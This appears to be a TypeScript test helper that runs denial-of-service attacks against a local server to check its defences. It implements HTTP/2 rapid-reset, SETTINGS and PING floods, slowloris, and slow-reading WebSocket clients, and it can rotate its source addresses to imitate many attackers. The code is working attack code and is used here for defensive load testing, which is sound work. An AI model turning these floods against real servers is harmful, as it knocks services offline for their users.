// Runs one attack against 127.0.0.1:ATTACK_PORT until stdin closes, from its own process:
// ATTACK_KIND = rapid-reset | settings | ping (HTTP/2 floods, reconnecting whenever the server
// closes the connection), slowloris (ATTACK_CONNS HTTP/1.1 connections trickling headers, reopened
// when cut), ws-slow (ATTACK_CONNS WebSocket clients that never read a firehose stream).
// Prints {"attacking": kind} once started, {"goaway": code, "goaways": "11,2", "closed": n} whenever
// the server ends a flooding connection with GOAWAY (code: the first one's), {"refused": n} when the
// server closes connections before its SETTINGS (a cool-down; printed at 1, 10, 100, ...), and
// {"connections": n} (connections opened) at the end. ATTACK_FROM: the source address of the HTTP/2
// floods (default 127.0.0.1); "spread" cycles through 127.0.0.2-251, many attackers' addresses.
import * as net from "node:net";
import WebSocket from "ws";
import { F, frame, grpcHeaders, headerBlock, ping, RawH2, rst, settings, T } from "../h2raw.js";

const port = Number(process.env.ATTACK_PORT);
const kind = process.env.ATTACK_KIND ?? "rapid-reset";
const conns = Number(process.env.ATTACK_CONNS ?? 100);
let stopping = false;
let opened = 0;
const sockets = new Set<{ destroy(): void }>();

const from = process.env.ATTACK_FROM ?? "127.0.0.1";
let refused = 0;

async function h2Flood(make: (i: number) => Buffer) {
  while (!stopping) {
    const local = from === "spread" ? `127.0.0.${2 + (opened % 250)}` : from;
    const c = await RawH2.connect(port, true, local).catch(() => undefined);
    opened++;
    if (!c || (c.closed && c.frames.length === 0)) {
      // Refused before the server said anything: reset at accept.
      if (/^10*$/.test(String(++refused))) process.stdout.write(JSON.stringify({ refused }) + "\n");
      await new Promise((r) => setImmediate(r));
      continue;
    }
    sockets.add(c);
    for (let i = 0; !c.closed && !stopping; ) {
      const chunk: Buffer[] = [];
      for (let j = 0; j < 50; j++) chunk.push(make(i++));
      if (!c.write(Buffer.concat(chunk))) break;
      await new Promise((r) => setImmediate(r));
      // Wait for the server to read (or to close the connection: no 'drain' comes then).
      if (c.socket.writableLength > 1 << 20) await new Promise((r) => (c.socket.once("drain", r), c.socket.once("close", r)));
    }
    c.destroy();
    sockets.delete(c);
    if (c.goaway !== undefined) process.stdout.write(JSON.stringify({ goaway: c.goaway, goaways: c.goaways.join(","), closed: opened }) + "\n");
  }
}

async function slowloris() {
  const head = Buffer.from("GET /healthz HTTP/1.1\r\nhost: x\r\nx-slow: " + "a".repeat(100_000), "latin1");
  const one = async () => {
    while (!stopping) {
      const s = net.connect(port, "127.0.0.1");
      s.on("error", () => {});
      opened++;
      sockets.add(s);
      let closed = false;
      s.once("close", () => (closed = true));
      for (let i = 0; !closed && !stopping && i < head.length; i++) {
        s.write(head.subarray(i, i + 1));
        await new Promise((r) => setTimeout(r, 100));
      }
      s.destroy();
      sockets.delete(s);
    }
  };
  await Promise.all(Array.from({ length: conns }, one));
}

async function wsSlow() {
  for (let i = 0; i < conns; i++) {
    const ws = new WebSocket(`ws://127.0.0.1:${port}/ws`, ["oneport.json.v1"], { perMessageDeflate: false });
    await new Promise((r, j) => (ws.once("open", r), ws.once("error", j)));
    opened++;
    sockets.add({ destroy: () => ws.terminate() });
    (ws as unknown as { _socket: net.Socket })._socket.pause();
    ws.send(JSON.stringify({ id: "flood", method: "example.ExampleService/SayHelloStream", message: { name: `slow${i}`, count: 0 } }));
  }
  await new Promise<void>((r) => process.stdin.once("end", () => r()));
}

const block = headerBlock(grpcHeaders("/example.ExampleService/SayHelloStream"));
const attacks: Record<string, () => Promise<void>> = {
  "rapid-reset": () => h2Flood((i) => Buffer.concat([frame(T.HEADERS, F.END_HEADERS, 1 + 2 * i, block), rst(1 + 2 * i)])),
  settings: () => h2Flood(() => settings([[0x3, 100]])),
  ping: () => h2Flood((i) => ping(i)),
  slowloris,
  "ws-slow": wsSlow,
};
if (!attacks[kind]) throw new Error(`unknown ATTACK_KIND ${kind}`);
process.stdin.resume();
process.stdin.once("end", () => {
  stopping = true;
  for (const s of sockets) s.destroy();
  process.stdout.write(JSON.stringify({ connections: opened }) + "\n");
  setTimeout(() => process.exit(0), 100);
});
process.stdout.write(JSON.stringify({ attacking: kind }) + "\n");
void attacks[kind]();
